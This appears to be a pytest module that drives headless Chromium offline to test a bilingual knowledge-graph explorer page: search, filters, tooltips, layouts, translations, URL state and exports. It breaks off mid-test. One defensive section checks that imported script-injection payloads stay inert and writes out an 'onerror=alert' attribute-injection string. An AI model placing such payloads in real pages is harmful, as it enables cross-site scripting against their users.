"""The explorer in a real headless Chromium (Debian's, driven by Playwright), offline.

Every page is opened from ``file://`` with every http(s) request aborted and recorded, so
a test fails if the page so much as tries to fetch something. The counts the page shows
are checked against the RDF. These tests never skip: without Chromium they fail and say
how to install it.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from playwright.sync_api import Browser, Locator, Page, Route, sync_playwright

from pipeline.explorer import OVERVIEW_SIZE, to_html
from pipeline.network import label_of, to_networkx
from pipeline.readers import read_quads

from .conftest import ROOT, run_kg
from .fixtures.html.hostile import PAYLOADS, PERSON_IRI, QUOTE, hostile_trig
from .fixtures.html.synthetic import synthetic_quads
from .test_html import _entity_subjects

pytestmark = pytest.mark.browser

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
GRAPHS = ROOT / "graphs"
BUNDLED = GRAPHS / "kg.html"
SCREENSHOT = ROOT / "docs" / "explorer.png"
VIEWPORT = {"width": 1400, "height": 900}
R = "https://w3id.org/vjkg/resource/"

# Recorded in the page before any of its own script runs.
WATCH = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI);
});
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Debian's Chromium, headless; never a downloaded browser."""
    if not CHROMIUM.is_file():
        pytest.fail(
            f"{CHROMIUM} not found: the explorer is tested in Debian's Chromium — "
            "install it with `apt-get install chromium` (.ci/run does)",
            pytrace=False,
        )
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield b
        b.close()


@dataclass
class Opened:
    """A page opened offline, with everything it tried to do."""

    page: Page
    seconds: float  # from navigation to the first drawing, measured here
    requests: list[str] = field(default_factory=list)
    blocked: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def api(self, expression: str) -> Any:
        """Evaluate ``expression`` with ``x`` bound to window.vjkgExplorer."""
        return self.page.evaluate(
            f"(() => {{ const x = window.vjkgExplorer; return {expression}; }})()"
        )

    def drawn(self) -> int:
        return self.api("x.drawnNodes()")

    def drawn_edges(self) -> int:
        return self.api("x.drawnEdges()")

    def settle(self) -> None:
        """Let a debounced input and the redraw after it happen."""
        self.page.wait_for_timeout(250)


def open_page(
    browser: Browser,
    path: Path | str,
    *,
    csp: bool = True,
    viewport: dict[str, int] | None = None,
) -> Opened:
    """Open ``path`` (or a file:// URL) with the network cut off; wait until it is drawn."""
    context = browser.new_context(
        viewport=viewport or VIEWPORT, bypass_csp=not csp, offline=True, accept_downloads=True
    )
    context.add_init_script(WATCH)
    page = context.new_page()
    opened = Opened(page, 0.0)

    def block(route: Route) -> None:
        opened.blocked.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^(https?|wss?|ftp)://"), block)
    page.on("request", lambda r: opened.requests.append(r.url))
    page.on("dialog", lambda d: (opened.dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: opened.errors.append(str(e)))
    page.on("console", lambda m: m.type == "error" and opened.errors.append(m.text))
    t0 = time.monotonic()
    page.goto(path if isinstance(path, str) else path.as_uri())
    page.wait_for_selector("body[data-ready=true]", state="attached", timeout=30_000)
    opened.seconds = time.monotonic() - t0
    return opened


@pytest.fixture(scope="module")
def graph() -> nx.MultiDiGraph:
    """The entity network of the committed graph, to compare the page with."""
    return to_networkx(read_quads(GRAPHS / "kg.nq"))


@pytest.fixture
def bundled(browser: Browser) -> Iterator[Opened]:
    opened = open_page(browser, BUNDLED)
    yield opened
    assert opened.blocked == [], f"the page tried to fetch {opened.blocked}"
    assert opened.errors == [], opened.errors
    opened.page.context.close()


# ------------------------------------------------------------------ loads offline, draws all


def _isolated(graph: nx.MultiDiGraph) -> set[str]:
    return {n for n in graph if graph.degree(n) == 0}


def test_the_bundled_page_works_offline_and_draws_every_entity(bundled: Opened, graph) -> None:
    assert bundled.blocked == []
    assert [u for u in bundled.requests if not u.startswith(("file:", "data:", "blob:"))] == []
    entities = len(_entity_subjects(GRAPHS / "kg.nq"))
    isolated = _isolated(graph)
    assert isolated, "the bundled graph has entities that are only mentioned"
    assert bundled.api("x.totalNodes") == entities == graph.number_of_nodes()
    # entities without any fact are hidden at first, and their number is said
    assert bundled.drawn() == entities - len(isolated)
    assert not isolated & set(bundled.api("x.drawnIds()"))
    assert bundled.drawn_edges() == graph.number_of_edges()
    assert bundled.api("x.mode()") == "all"
    status = bundled.page.inner_text("#status")
    assert f"{len(isolated)} entities without facts are hidden" in status
    assert f"{entities - len(isolated)} entities of {entities}" in status
    show_all(bundled)
    assert bundled.drawn() == bundled.api("x.visibleNodes()") == entities
    assert f"{entities} entities of {entities}" in bundled.page.inner_text("#status")
    assert bundled.page.evaluate("window.__csp") == []


def test_the_bundled_page_is_interactive_once_drawn(bundled: Opened) -> None:
    # How fast is measured and reported (docs/explorer.md), not asserted: timings belong
    # to benchmarks, not to tests that a busy CI machine would make flaky.
    ready_ms = bundled.api("x.readyAt")
    print(f"\nbundled graph: drawn after {ready_ms:.0f} ms")
    assert bundled.api("x.ready") is True
    bundled.page.fill("#search", "meti")
    bundled.page.wait_for_selector("#results button", timeout=30_000)


def show_all(opened: Opened) -> None:
    """Tick "entities without facts" so that every entity is drawn."""
    opened.page.locator("#show-isolated").check(force=True)
    opened.settle()


def test_physics_is_off_and_nothing_moves_after_load(bundled: Opened, graph) -> None:
    show_all(bundled)
    assert bundled.api("x.physicsEnabled()") is False
    before = bundled.api("x.positions()")
    bundled.page.wait_for_timeout(800)
    assert bundled.api("x.positions()") == before
    # the positions are the ones computed in Python (vis reports whole pixels)
    from pipeline.explorer import compute_layout

    expected = compute_layout(graph)
    assert set(before) == set(expected)
    for node, p in before.items():
        assert abs(p["x"] - expected[node][0]) < 1 and abs(p["y"] - expected[node][1]) < 1


# ------------------------------------------------------------------ search and filters


def test_search_ignores_diacritics_and_shows_the_matches(bundled: Opened, graph) -> None:
    total = bundled.drawn()
    bundled.page.fill("#search", "bo khoa hoc")
    bundled.settle()
    first = bundled.page.locator("#results button").first
    assert first.get_attribute("data-node") == R + "most"
    assert "Ministry of Science and Technology" in first.inner_text()
    assert bundled.api("x.mode()") == "search"
    drawn = set(bundled.api("x.drawnIds()"))
    assert R + "most" in drawn
    assert len(drawn) < total
    # matches come with their neighbours
    assert {v for v in nx.all_neighbors(graph, R + "most")} <= drawn
    bundled.page.press("#search", "Escape")
    bundled.settle()
    assert bundled.drawn() == total


@pytest.mark.parametrize("lang", ["en", "vi"])
def test_a_long_class_name_beside_a_result_leaves_the_name_readable(
    browser: Browser, lang: str
) -> None:
    """On a desktop "Embassy or representative office" took the row and left each embassy's
    name one letter wide ("E…"): the class name is what gets cut."""
    opened = open_page(browser, BUNDLED, viewport={"width": 1280, "height": 800})
    if lang == "vi":
        opened.page.get_by_text("Tiếng Việt", exact=True).click()
    opened.page.fill("#search", "embassy" if lang == "en" else "dai su")
    opened.settle()
    widths = opened.page.eval_on_selector_all(
        "#results button[data-node] .name", "ns => ns.map(n => n.getBoundingClientRect().width)"
    )
    assert len(widths) >= 2 and min(widths) >= 100, widths
    opened.page.context.close()


def test_searching_an_alias_finds_the_entity(bundled: Opened) -> None:
    bundled.page.fill("#search", "Bo KH&CN")
    bundled.settle()
    assert bundled.page.locator("#results button").first.get_attribute("data-node") == R + "most"


def _class_box(opened: Opened, cls: str) -> Locator:
    return opened.page.locator(f"input[data-filter=cls][value={cls}]")


def test_unticking_a_class_hides_its_entities_and_their_facts(bundled: Opened, graph) -> None:
    persons = {n for n in graph if graph.nodes[n]["cls"] == "Person"}
    assert persons
    show_all(bundled)
    _class_box(bundled, "Person").uncheck()
    bundled.settle()
    assert bundled.drawn() == graph.number_of_nodes() - len(persons)
    kept = [e for e in graph.edges() if e[0] not in persons and e[1] not in persons]
    assert bundled.drawn_edges() == len(kept)
    assert not persons & set(bundled.api("x.drawnIds()"))
    _class_box(bundled, "Person").check()
    bundled.settle()
    assert bundled.drawn() == graph.number_of_nodes()


def test_unticking_a_class_hides_its_subclasses_too(bundled: Opened, graph) -> None:
    from pipeline.vocab import top_class

    orgs = {n for n in graph if top_class(graph.nodes[n]["cls"]) == "Organization"}
    show_all(bundled)
    _class_box(bundled, "Organization").uncheck()
    bundled.settle()
    assert bundled.drawn() == graph.number_of_nodes() - len(orgs)
    assert not _class_box(bundled, "Ministry").is_checked()


def test_unticking_a_relation_hides_exactly_its_facts(bundled: Opened, graph) -> None:
    located = [e for e in graph.edges(data="relation") if e[2] == "locatedIn"]
    assert located
    show_all(bundled)
    bundled.page.locator("input[data-filter=rel][value=locatedIn]").uncheck()
    bundled.settle()
    assert bundled.drawn_edges() == graph.number_of_edges() - len(located)
    assert bundled.drawn() == graph.number_of_nodes()


def test_unticking_a_source_keeps_only_what_the_other_sources_state(bundled: Opened, graph) -> None:
    per_source: dict[str, int] = {}
    for _, _, sources in graph.edges(data="sources"):
        for s in sources:
            per_source[s] = per_source.get(s, 0) + 1
    source = max(per_source, key=lambda s: (per_source[s], s))
    bundled.page.locator(f'input[data-filter=src][value="{source}"]').uncheck()
    bundled.settle()
    kept = {k for _, _, k, d in graph.edges(keys=True, data=True) if set(d["sources"]) - {source}}
    spoken_of = {n for u, v, k in graph.edges(keys=True) if k in kept for n in (u, v)}
    assert bundled.drawn_edges() == len(kept) < graph.number_of_edges()
    assert bundled.drawn() == len(spoken_of)
    assert set(bundled.api("x.drawnIds()")) == spoken_of


# ------------------------------------------------------------------ labels, details, tooltips


def test_the_language_switch_changes_the_labels(bundled: Opened, graph) -> None:
    most = R + "most"
    en, vi = label_of(graph, most, "en"), label_of(graph, most, "vi")
    assert en != vi
    assert bundled.api(f"x.label({most!r})") == en
    bundled.page.get_by_text("Tiếng Việt", exact=True).click()
    assert bundled.api(f"x.label({most!r})") == vi
    assert bundled.page.evaluate("document.documentElement.lang") == "vi"
    bundled.page.get_by_text("English", exact=True).click()
    assert bundled.api(f"x.label({most!r})") == en


def _point(opened: Opened, node: str) -> tuple[float, float]:
    """Where ``node`` is drawn, in page coordinates."""
    p = opened.api(f"x.domPosition({node!r})")
    box = opened.page.locator("#graph").bounding_box()
    assert box is not None
    return box["x"] + p["x"], box["y"] + p["y"]


def test_clicking_a_node_lists_its_facts_with_their_quotes(bundled: Opened, graph) -> None:
    node = max(graph, key=lambda n: (graph.degree(n), n))
    bundled.page.fill("#search", graph.nodes[node]["id"])
    bundled.settle()
    bundled.page.mouse.click(*_point(bundled, node))
    details = bundled.page.locator("#details")
    assert details.locator("h3").inner_text() == label_of(graph, node, "en")
    assert details.locator(".fact").count() == graph.degree(node)
    quotes = {e.quote for _, _, ev in graph.edges(node, data="evidence") for e in ev}
    quotes |= {e.quote for _, _, ev in graph.in_edges(node, data="evidence") for e in ev}
    shown = [q.strip("“”") for q in details.locator(".fact .quote-text").all_inner_texts()]
    assert shown and set(shown) <= quotes
    assert details.locator(".src").first.inner_text().startswith("— ")


def test_an_entitys_figures_are_listed_with_their_quotes(bundled: Opened, graph) -> None:
    vietnam = next(n for n in graph if graph.nodes[n]["id"] == "vietnam")
    figures = graph.nodes[vietnam]["figures"]
    assert figures, "the bundled graph gives figures about Vietnam"
    bundled.page.fill("#search", "Việt Nam")
    bundled.settle()
    bundled.page.locator("#results button").first.click()
    assert bundled.page.locator("#details h3").inner_text() == label_of(graph, vietnam, "en")
    boxes = bundled.page.locator("#details .figure")
    assert boxes.count() == len(figures)
    text = bundled.page.locator("#details").inner_text()
    assert "198 tỷ USD" in text and "digital technology industry revenue" in text
    assert "doanh thu ngành công nghiệp công nghệ số Việt Nam đã thiết lập kỷ lục" in text


def test_hovering_shows_names_and_class_and_for_a_fact_its_quote_and_source(
    bundled: Opened, graph
) -> None:
    # a fact between two entities that have no other fact: alone on screen after a search
    u, v, key = next(
        (u, v, k)
        for u, v, k in sorted(graph.edges(keys=True))
        if graph.degree(u) == 1 and graph.degree(v) == 1 and u != v
    )
    bundled.page.fill("#search", graph.nodes[u]["id"])
    bundled.settle()
    assert set(bundled.api("x.drawnIds()")) >= {u, v}
    bundled.page.mouse.move(*_point(bundled, u))
    tip = bundled.page.locator("#tip")
    tip.wait_for(state="visible", timeout=2000)
    text = tip.inner_text()
    assert label_of(graph, u, "en") in text
    assert f"vi: {label_of(graph, u, 'vi')}" in text
    (ux, uy), (vx, vy) = _point(bundled, u), _point(bundled, v)
    bundled.page.mouse.move((ux + vx) / 2, (uy + vy) / 2)
    evidence = graph.edges[u, v, key]["evidence"]
    for _ in range(20):  # polled here: wait_for_function would need eval, which the CSP bans
        text = tip.inner_text() if tip.is_visible() else ""
        if evidence[0].quote in text:
            break
        bundled.page.wait_for_timeout(100)
    assert evidence[0].quote in text
    titles = graph.graph.get("sources", {}).get(evidence[0].source, {}).get("titles", {})
    assert (titles.get("en") or evidence[0].source_title) in text  # in the language shown
    # clicking the link shows that one fact in the panel
    bundled.page.mouse.click((ux + vx) / 2, (uy + vy) / 2)
    details = bundled.page.locator("#details")
    assert details.locator(".fact").count() == 1
    assert details.locator(".quote-text").first.inner_text() == f"“{evidence[0].quote}”"


# ------------------------------------------------------------------ hostile data stays inert


@pytest.fixture(scope="module")
def hostile_html(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-browser")
    (folder / "hostile.trig").write_text(hostile_trig(), encoding="utf-8")
    done = run_kg("html", str(folder / "hostile.trig"), "-o", str(folder / "hostile.html"))
    assert done.returncode == 0, done.stderr
    return folder / "hostile.html"


@pytest.mark.parametrize("csp", [True, False], ids=["with-csp", "escaping-alone"])
def test_hostile_labels_quotes_titles_and_iris_show_as_text(
    browser: Browser, hostile_html: Path, csp: bool
) -> None:
    """With the page's CSP, and without it: escaping alone must keep every payload inert."""
    opened = open_page(browser, hostile_html, csp=csp)
    page = opened.page
    org = R + "hostile-org"
    assert opened.drawn() == 2
    # use every surface a string reaches: results, details, tooltips, filters, both languages
    page.fill("#search", "img src")
    opened.settle()
    page.locator("#results button").first.click()
    page.wait_for_timeout(600)  # the view glides to the entity
    page.mouse.move(*_point(opened, org))
    page.locator("#tip").wait_for(state="visible", timeout=2000)
    assert PAYLOADS["img"] in page.inner_text("#tip")
    details = page.inner_text("#details")
    for text in (PAYLOADS["img"], PAYLOADS["svg"], PAYLOADS["comment"], PAYLOADS["template"]):
        assert text in details
    assert QUOTE.split(" và ")[0] in details
    page.get_by_text("Tiếng Việt", exact=True).click()
    page.locator(f'#details button[data-node="{PERSON_IRI}"]').first.click()
    details = page.inner_text("#details")
    assert PAYLOADS["script"] in details  # the vi label of the other end, and the vi title
    filters = page.inner_text("#controls")
    assert PAYLOADS["script"] in filters  # the hostile source's vi title
    assert "x'onerror=alert(9)" in filters
    page.wait_for_timeout(300)
    # nothing ran, nothing was injected, nothing was even attempted
    assert opened.dialogs == []
    assert page.evaluate("window.__xss") is None
    assert page.evaluate("window.__csp") == []
    assert page.evaluate("document.querySelectorAll('img, iframe, object, embed').length") == 0
    assert page.evaluate("document.querySelectorAll('svg:not(.shape)').length") == 0
    assert page.evaluate("document.scripts.length") == 3
    assert opened.blocked == []
    assert opened.errors == []
    page.context.close()


# ------------------------------------------------------------------ a big graph


@pytest.fixture(scope="module")
def big_html(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("big") / "synthetic-5000.html"
    path.write_text(to_html(to_networkx(synthetic_quads(5000))), encoding="utf-8")
    return path


def test_5000_entities_open_on_an_overview_and_settle(browser: Browser, big_html: Path) -> None:
    opened = open_page(browser, big_html)
    ready_ms = opened.api("x.readyAt")
    print(f"\n5,000 entities: drawn after {ready_ms:.0f} ms ({opened.seconds:.2f} s measured here)")
    assert opened.api("x.mode()") == "overview"
    assert opened.drawn() == OVERVIEW_SIZE
    assert opened.api("x.totalNodes") == 5000
    assert opened.api("x.physicsEnabled()") is False
    before = opened.api("x.positions()")
    opened.page.wait_for_timeout(500)
    assert opened.api("x.positions()") == before
    # an entity outside the overview is one search away
    hidden = opened.page.evaluate(
        "JSON.parse(document.getElementById('kg-data').textContent).nodes"
        ".filter(n => n.ox === undefined && n.degree > 0)[0]"
    )
    assert hidden["id"] not in opened.api("x.drawnIds()")
    opened.page.fill("#search", hidden["labels"]["en"])
    opened.page.wait_for_selector(f'#results button[data-node="{hidden["id"]}"]', timeout=3000)
    assert opened.page.locator("#results button").first.get_attribute("data-node") == hidden["id"]
    assert hidden["id"] in opened.api("x.drawnIds()")
    # and everything can still be drawn
    opened.page.fill("#search", "")
    opened.settle()
    t0 = time.monotonic()
    opened.page.get_by_role("button", name="Show all 5000").click()
    opened.page.wait_for_timeout(100)
    isolated = opened.api("x.isolated")
    assert opened.drawn() == 5000 - isolated
    opened.page.locator("#show-isolated").check()
    opened.page.wait_for_timeout(100)
    assert opened.drawn() == 5000
    print(f"5,000 entities: 'Show all' drew everything in {time.monotonic() - t0:.2f} s")
    assert opened.blocked == [] and opened.errors == []
    opened.page.context.close()


# ------------------------------------------------------------------ phones and tablets

SIZES = [(360, 640), (390, 844), (768, 1024), (1400, 900)]


def _no_sideways_scroll(page: Page) -> None:
    width = page.evaluate("document.documentElement.scrollWidth")
    inner = page.evaluate("innerWidth")
    assert width <= inner, f"the page scrolls sideways: {width} px wide in a {inner} px window"


def _canvas_box(page: Page) -> dict[str, float]:
    box = page.locator("#graph canvas").bounding_box()
    assert box is not None
    return box


@pytest.mark.parametrize("size", SIZES, ids=[f"{w}x{h}" for w, h in SIZES])
def test_the_graph_is_drawn_and_nothing_scrolls_sideways_at_every_size(
    browser: Browser, size: tuple[int, int]
) -> None:
    width, height = size
    opened = open_page(browser, BUNDLED, viewport={"width": width, "height": height})
    page = opened.page
    box = _canvas_box(page)
    # the graph takes most of the window, on a phone too
    assert box["width"] >= 0.5 * width and box["height"] >= 0.5 * height, box
    assert opened.drawn() > 0
    _no_sideways_scroll(page)
    narrow = width < 1100
    assert page.locator("#open-controls").is_visible() == narrow
    if narrow:
        # the panels are drawers: closed at first, opened by their button, over the graph
        assert not page.locator("#search").is_visible()
        page.locator("#open-controls").click()
        page.locator("#search").wait_for(state="visible")
        _no_sideways_scroll(page)
        page.fill("#search", "meti")
        opened.settle()
        page.locator("#results button").first.click()
        page.locator("#details h3").wait_for(state="visible")
        assert not page.locator("#search").is_visible()  # one drawer at a time
        _no_sideways_scroll(page)
        page.locator("#details button.close").click()
        page.wait_for_timeout(300)
        assert not page.locator("#details h3").is_visible()
    else:
        assert page.locator("#search").is_visible() and page.locator("#details").is_visible()
    box = _canvas_box(page)
    assert box["width"] > 0 and box["height"] > 0  # the graph was there all along
    assert opened.blocked == [] and opened.errors == []
    page.context.close()


@pytest.mark.parametrize("size", SIZES, ids=[f"{w}x{h}" for w, h in SIZES])
def test_the_ontology_page_fits_every_size(browser: Browser, size: tuple[int, int]) -> None:
    width, height = size
    context = browser.new_context(viewport={"width": width, "height": height}, offline=True)
    blocked: list[str] = []
    context.route(
        re.compile(r"^(https?|wss?|ftp)://"), lambda r: (blocked.append(r.request.url), r.abort())
    )
    page = context.new_page()
    page.goto((GRAPHS / "ontology.html").as_uri())
    _no_sideways_scroll(page)
    wide = page.evaluate(
        "[...document.querySelectorAll('body *')]"
        ".filter(e => e.getBoundingClientRect().right > innerWidth + 0.5).length"
    )
    assert wide == 0
    assert page.locator("h1").is_visible()
    # its interface in either language: every word of the other is hidden
    shown = "[...document.querySelectorAll('.ui-%s')].filter(e => e.checkVisibility()).length"
    assert page.evaluate(shown % "en") > 50 and page.evaluate(shown % "vi") == 0
    assert "Object properties" in page.inner_text("body")
    page.locator("label[for=ui-vi]").click()
    _no_sideways_scroll(page)
    assert page.evaluate(shown % "vi") > 50 and page.evaluate(shown % "en") == 0
    text = page.inner_text("body")
    assert "Thuộc tính đối tượng" in text and "Mục lục" in text
    page.locator("label[for=ui-en]").click()
    assert "Object properties" in page.inner_text("body")
    assert blocked == []
    context.close()


# ------------------------------------------------------------------ every word in Vietnamese

VISIBLE_TEXTS = """(() => {
  const out = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
    const e = n.parentElement;
    if (!n.textContent.trim() || !e || e.closest("script, style, body [lang=en]")) continue;
    if (!e.checkVisibility({ visibilityProperty: true })) continue;
    out.push(n.textContent);
  }
  for (const e of document.querySelectorAll("[placeholder], [aria-label], [title]")) {
    if (e.closest("body [lang=en]") || !e.checkVisibility({ visibilityProperty: true })) continue;
    for (const a of ["placeholder", "aria-label", "title"]) {
      if (e.getAttribute(a)) out.push(e.getAttribute(a));
    }
  }
  return out;
})()"""


def _page_data(page: Page) -> dict[str, Any]:
    return page.evaluate("JSON.parse(document.getElementById('kg-data').textContent)")


def _data_strings(data: dict[str, Any]) -> list[str]:
    """Every string the page shows that comes from the graph, longest first."""
    out: set[str] = set()

    def evidence(items: list[dict[str, Any]]) -> None:
        for ev in items:
            out.add(ev["quote"])
            out.update(" ".join(ev.get(k, "").split()) for k in ("prefix", "suffix"))

    for n in data["nodes"]:
        out.update(n["labels"].values())
        out.update(n["aliases"])
        out.update([n["eid"], n["id"]])
        out.update(d for ds in n["dates"].values() for d in ds)
        for f in n["figures"]:
            out.update(f["measure"].values())
            out.update(x for x in (f["amount"], f["date"]) if x)
            evidence(f["evidence"])
    for e in data["edges"]:
        out.update(x for x in (e["amount"], e["date"], e["id"]) if x)
        out.update(e["role"].values())
        evidence(e["evidence"])
    for src in data["sources"]:
        out.update(src["titles"].values())
        out.update(x for x in (src["id"], src["iri"], src["issued"]) if x)
    return sorted((x for x in out if x), key=len, reverse=True)


def _words(text: str) -> set[str]:
    return {w.lower() for w in re.findall(r"[A-Za-z]{3,}", text)}


def _english_left(texts: list[str], data: list[str], english: set[str]) -> set[str]:
    """The English interface words in ``texts`` once every data string is taken out."""
    left: set[str] = set()
    for text in texts:
        for d in data:
            if d in text:
                text = text.replace(d, " ")
        left |= _words(text) & english
    return left


def _ontology_labels(lang: str) -> dict[str, str]:
    from rdflib import Graph, Literal
    from rdflib.namespace import RDFS

    onto = Graph().parse(ROOT / "ontology" / "vjkg.ttl")
    ns = "https://w3id.org/vjkg/ontology#"
    return {
        str(s)[len(ns) :]: str(o)
        for s, o in onto.subject_objects(RDFS.label)
        if str(s).startswith(ns) and isinstance(o, Literal) and o.language == lang
    }


def test_on_a_phone_the_small_controls_are_big_enough_to_tap(browser: Browser) -> None:
    """The "all"/"none" links were 17 px tall and the toggles 20 px at 360 px: under the
    24 px a finger needs (WCAG 2.5.8)."""
    opened = open_page(browser, BUNDLED, viewport={"width": 360, "height": 640})
    page = opened.page
    page.locator("#open-controls").click()
    page.locator("#search").wait_for(state="visible")
    heights = page.eval_on_selector_all(
        ".bulk .link, .toggle",
        "es => es.filter(e => e.offsetParent).map(e => e.getBoundingClientRect().height)",
    )
    assert heights and min(heights) >= 24, heights
    page.context.close()


def test_closing_the_reader_gives_the_focus_back_to_what_opened_it(bundled: Opened, graph) -> None:
    page = bundled.page
    node = max(graph, key=lambda n: (graph.degree(n), n))
    bundled.api(f"x.select({node!r})")
    page.wait_for_timeout(300)
    opener = page.locator("#details .readbtn").first
    opener.focus()
    page.keyboard.press("Enter")
    page.locator("#reader").wait_for(state="visible")
    page.keyboard.press("Escape")
    page.locator("#reader").wait_for(state="hidden")
    assert page.evaluate("document.activeElement.classList.contains('readbtn')")


def _visit_everything(opened: Opened, graph) -> list[str]:
    """The visible strings of the page in several states: intro, search, details, reader."""
    page = opened.page
    texts = page.evaluate(VISIBLE_TEXTS)
    page.fill("#search", "800.000")
    opened.settle()
    texts += page.evaluate(VISIBLE_TEXTS)
    node = max(graph, key=lambda n: (graph.degree(n), n))
    page.fill("#search", "")
    opened.settle()
    opened.api(f"x.select({node!r})")
    page.wait_for_timeout(400)
    texts += page.evaluate(VISIBLE_TEXTS)
    page.mouse.move(*_point(opened, node))
    page.locator("#tip").wait_for(state="visible", timeout=2000)
    texts += page.evaluate(VISIBLE_TEXTS)
    page.locator("#details .readbtn").first.click()
    page.locator("#reader").wait_for(state="visible")
    texts += [page.inner_text("#reader-title"), page.inner_text("#reader-meta")]
    page.locator("#close-reader").click()
    page.locator("#details .btn").first.click()  # the neighbourhood: its status and action
    opened.settle()
    texts += page.evaluate(VISIBLE_TEXTS)
    _, _, fact = next(iter(sorted(graph.edges(node, keys=True))))
    opened.api(f"x.selectFact({fact!r})")  # one fact in the panel
    page.wait_for_timeout(300)
    texts += page.evaluate(VISIBLE_TEXTS)
    page.locator("#actions .btn").first.click()  # back to everything
    opened.settle()
    _class_box(opened, "Person").uncheck()  # "reset filters" and the filter counts
    opened.settle()
    texts += page.evaluate(VISIBLE_TEXTS)
    _class_box(opened, "Person").check()
    return texts


def test_in_vietnamese_no_english_word_of_the_interface_is_left(bundled: Opened, graph) -> None:
    page = bundled.page
    strings = bundled.api("x.strings('en')")
    vi_strings = bundled.api("x.strings('vi')")
    assert set(vi_strings) == set(strings)  # every interface string has its translation
    en_labels, vi_labels = _ontology_labels("en"), _ontology_labels("vi")
    english = set().union(*(_words(v) for v in [*strings.values(), *en_labels.values()]))
    english -= set().union(*(_words(v) for v in [*vi_strings.values(), *vi_labels.values()]))
    assert {"facts", "search", "sources", "organization", "partner"} <= english
    data = _data_strings(_page_data(page))
    # the check can fail: in English the same states are full of English words
    assert len(_english_left(_visit_everything(bundled, graph), data, english)) > 20
    page.get_by_text("Tiếng Việt", exact=True).click()
    assert page.evaluate("document.documentElement.lang") == "vi"
    left = _english_left(_visit_everything(bundled, graph), data, english)
    assert left == set(), f"English words left in Vietnamese mode: {sorted(left)}"
    # class and relation names are the ontology's Vietnamese labels, on the canvas too
    for box in page.locator("#class-filters label").all():
        cls = box.locator("input").get_attribute("value")
        assert box.locator(".text").inner_text() == vi_labels[cls]
    for box in page.locator("#relation-filters label").all():
        rel = box.locator("input").get_attribute("value")
        assert box.locator(".text").inner_text() == vi_labels[rel]
    _, _, key, rel = next(iter(sorted(graph.edges(keys=True, data="relation"))))
    assert bundled.api(f"x.edgeLabel({key!r})") == vi_labels[rel]


# ------------------------------------------------------------------ the view in the URL


def _view(opened: Opened) -> dict[str, Any]:
    page = opened.page
    return {
        "lang": opened.api("x.lang()"),
        "html_lang": page.evaluate("document.documentElement.lang"),
        "selected": opened.api("x.selected()"),
        "focus": opened.api("x.focus()"),
        "mode": opened.api("x.mode()"),
        "drawn": sorted(opened.api("x.drawnIds()")),
        "edges": sorted(opened.api("x.drawnEdgeIds()")),
        "search": page.input_value("#search"),
        "unticked": sorted(
            b.get_attribute("value") or ""
            for b in page.locator("input[data-filter]").all()
            if not b.is_checked()
        ),
        "details": page.locator("#details h3").inner_text(),
        "years": [page.input_value(f"#timeline input[data-time={k}]") for k in ("from", "to")],
    }


def test_the_view_lives_in_the_url_reload_and_back_restore_it(
    browser: Browser, bundled: Opened
) -> None:
    page = bundled.page
    page.get_by_text("Tiếng Việt", exact=True).click()
    page.locator("input[data-filter=rel][value=locatedIn]").uncheck()
    _class_box(bundled, "Person").uncheck()
    _set_range(page, "from", 2010)
    bundled.settle()
    page.fill("#search", "jetro")
    bundled.settle()
    page.locator("#results button").first.click()
    bundled.settle()
    before_focus = _view(bundled)
    assert before_focus["selected"] == R + "jetro" and before_focus["search"] == "jetro"
    page.locator("#details").get_by_role("button", name="Xem lân cận").click()
    bundled.settle()
    focused = _view(bundled)
    assert focused["mode"] == "focus" and focused["focus"] == R + "jetro"
    assert "locatedIn" in focused["unticked"] and "Person" in focused["unticked"]
    assert focused["lang"] == "vi" and focused["years"][0] == "2010"
    url = page.url
    assert "focus=jetro" in url and "lang=vi" in url and "sel=jetro" in url
    assert "hc=Person" in url and "years=2010-" in url
    page.reload()
    page.wait_for_selector("body[data-ready=true]", state="attached")
    assert _view(bundled) == focused
    page.go_back()
    page.wait_for_selector("body[data-ready=true]", state="attached")
    bundled.settle()
    assert _view(bundled) == before_focus
    page.go_forward()
    page.wait_for_selector("body[data-ready=true]", state="attached")
    bundled.settle()
    assert _view(bundled) == focused
    # the address is the view: opened elsewhere, it shows the same
    other = open_page(browser, url)
    assert _view(other) == focused
    assert other.blocked == [] and other.errors == []
    other.page.context.close()


# ------------------------------------------------------------------ exports


def test_the_exports_hold_what_is_shown(bundled: Opened, graph, tmp_path: Path) -> None:
    import csv

    import pyoxigraph

    page = bundled.page
    page.fill("#search", "rapidus")
    bundled.settle()
    shown = set(bundled.api("x.drawnEdgeIds()"))
    assert 0 < len(shown) < graph.number_of_edges()
    files = {}
    for button in ("export-svg", "export-png", "export-csv", "export-ttl"):
        with page.expect_download() as info:
            page.locator(f"#{button}").click()
        path = tmp_path / info.value.suggested_filename
        info.value.save_as(path)
        files[button] = path
    from xml.etree import ElementTree

    ns = {"s": "http://www.w3.org/2000/svg"}
    svg = ElementTree.parse(files["export-svg"]).getroot()  # well-formed XML
    marks = svg.findall("s:g[@class='entities']/*", ns)
    assert {m.get("data-entity") for m in marks} == {
        graph.nodes[n]["id"] for n in bundled.api("x.drawnIds()")
    }
    assert len(svg.findall("s:g[@class='facts']/s:line", ns)) == len(shown)
    names = [t.text for t in svg.findall("s:g[@class='names']/s:text", ns)]
    assert label_of(graph, R + "rapidus", "en") in names
    png = files["export-png"].read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and len(png) > 5_000
    with files["export-csv"].open(encoding="utf-8-sig", newline="") as f:
